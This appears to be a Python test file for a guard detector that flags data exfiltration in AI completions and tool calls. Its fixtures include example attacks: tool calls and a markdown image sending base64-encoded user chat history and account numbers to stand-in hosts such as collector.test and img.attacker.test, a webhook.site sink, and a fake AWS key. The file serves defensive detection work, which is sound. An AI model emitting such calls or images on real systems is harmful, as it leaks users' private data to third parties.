from __future__ import annotations

import base64

from schemas.view import CompletionView, ToolCall
from services.guard.detectors import scan_completion
from services.guard.detectors.exfiltration import carries_data, host_allowed

ALLOWED = frozenset({"example.com"})


def call(arguments: object) -> CompletionView:
    return CompletionView(tool_calls=[ToolCall(id="c1", name="http", arguments=arguments)])


def test_host_allowlist_includes_subdomains():
    assert host_allowed("api.example.com", ALLOWED)
    assert host_allowed("example.com", ALLOWED)
    assert not host_allowed("example.com.evil.net", ALLOWED)
    assert not host_allowed("notexample.com", ALLOWED)


def test_url_carrying_encoded_data_is_flagged_whatever_the_allowlist():
    data = base64.urlsafe_b64encode(b"the user's chat history and their account number " * 2).decode()
    findings = scan_completion(call({"url": f"https://collector.test/c?d={data}"}))
    assert [(f.detector, f.location) for f in findings] == [
        ("exfiltration.data_in_url", "response.tool_calls[0].arguments.url")
    ]
    assert data not in findings[0].excerpt and findings[0].severity == "high"
    assert carries_data("https://example.com/search?q=weather") is None


def test_unlisted_destinations_only_when_an_allowlist_is_configured():
    view = call({"url": "https://uploads.unknown.test/put", "to": "bob@mailbox.test"})
    assert scan_completion(view) == []
    findings = scan_completion(view, allowed_domains=ALLOWED)
    assert {f.detector for f in findings} == {"exfiltration.unlisted_destination", "exfiltration.unlisted_recipient"}
    assert {f.location for f in findings} == {
        "response.tool_calls[0].arguments.url",
        "response.tool_calls[0].arguments.to",
    }
    assert not scan_completion(call({"url": "https://api.example.com/v1/items/7"}), allowed_domains=ALLOWED)


def test_secrets_and_pii_in_arguments(fake_keys):
    findings = scan_completion(call({"body": {"note": f"key {fake_keys['aws']}", "card": "4539 1488 0343 6467"}}))
    got = {(f.detector, f.location) for f in findings}
    assert got == {
        ("exfiltration.secret_in_arguments.aws_access_key_id", "response.tool_calls[0].arguments.body.note"),
        ("exfiltration.pii_in_arguments.payment_card", "response.tool_calls[0].arguments.body.card"),
    }
    assert all(f.category == "exfiltration" for f in findings)
    assert fake_keys["aws"] not in str([f.model_dump() for f in findings])


def test_markdown_image_with_data_in_the_answer():
    data = base64.b64encode(b"secret project codename and the user's e-mail").decode()
    answer = CompletionView(text=f"Here you go ![logo](https://img.attacker.test/p.png?x={data}) done")
    findings = scan_completion(answer)
    assert [f.detector for f in findings] == ["exfiltration.image_url_data"]
    assert findings[0].location == "response.text"
    assert data not in findings[0].excerpt
    plain = CompletionView(text="See ![diagram](https://example.com/diagram.png)")
    assert scan_completion(plain, allowed_domains=ALLOWED) == []


def _local(name: str, arguments: dict[str, object]) -> CompletionView:
    return CompletionView(tool_calls=[ToolCall(id="c1", name=name, arguments=arguments)])


def test_links_written_by_a_local_action_are_content_not_destinations():
    # A note or a file that mentions a page sends nothing to that page's host.
    for name, key in (("write_note", "text"), ("write_file", "content"), ("create_ticket", "body")):
        view = _local(
            name, {key: "Just posted a photo https://www.example.org and the docs at https://docs.other.test"}
        )
        assert scan_completion(view, allowed_domains=ALLOWED) == [], name
    # The same link given to a tool that sends, or in a tool's url argument, is a destination.
    sent = scan_completion(call({"url": "https://www.example.org/upload"}), allowed_domains=ALLOWED)
    assert [f.detector for f in sent] == ["exfiltration.unlisted_destination"]
    fetched = scan_completion(_local("fetch_page", {"url": "https://www.example.org"}), allowed_domains=ALLOWED)
    assert [f.detector for f in fetched] == ["exfiltration.unlisted_destination"]


def test_a_local_action_with_a_link_keeps_its_secret_under_its_own_category(fake_keys):
    view = _local("write_file", {"path": "notes.md", "content": f"see https://wiki.other.test key {fake_keys['aws']}"})
    findings = scan_completion(view, allowed_domains=ALLOWED)
    assert [(f.category, f.detector) for f in findings] == [("secret", "secrets.aws_access_key_id")]


def test_a_local_action_still_reports_a_link_that_carries_data_or_points_at_a_sink():
    data = base64.urlsafe_b64encode(b"the user's chat history and their account number " * 2).decode()
    view = _local("write_note", {"text": f"open https://collector.test/c?d={data} later"})
    assert [f.detector for f in scan_completion(view, allowed_domains=ALLOWED)] == ["exfiltration.data_in_url"]
    view = _local("write_note", {"text": "post it to https://webhook.site/3f2a-11 later"})
    assert [f.detector for f in scan_completion(view)] == ["exfiltration.sink_destination"]
